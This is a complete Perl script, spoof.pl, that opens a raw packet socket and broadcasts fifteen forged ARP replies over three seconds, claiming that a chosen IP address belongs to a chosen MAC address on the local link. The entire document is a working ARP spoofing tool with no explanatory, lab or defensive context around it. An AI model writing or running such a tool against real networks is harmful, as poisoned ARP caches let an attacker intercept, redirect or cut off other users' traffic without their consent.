# spoof.pl IFINDEX MAC ADDRESS: tells everybody on the link, for three seconds, that ADDRESS is at MAC.
use strict;
use warnings;
my ($index, $mac, $address) = @ARGV;
my $own = pack('H12', $mac =~ s/://gr);
my $all = "\xff" x 6;
my $ip = pack('C4', split /\./, $address);
my $arp = $all . $own . pack('n', 0x0806) . pack('nnCCn', 1, 0x0800, 6, 4, 2) . $own . $ip . $all . $ip;
socket(my $link, 17, 3, 0) or die "no packet socket: $!";
my $to = pack('SnlSCCa8', 17, 0x0806, $index, 1, 0, 6, $all);
for (1 .. 15) {
  send($link, $arp, 0, $to) or die "cannot send: $!";
  select(undef, undef, undef, 0.2);
}
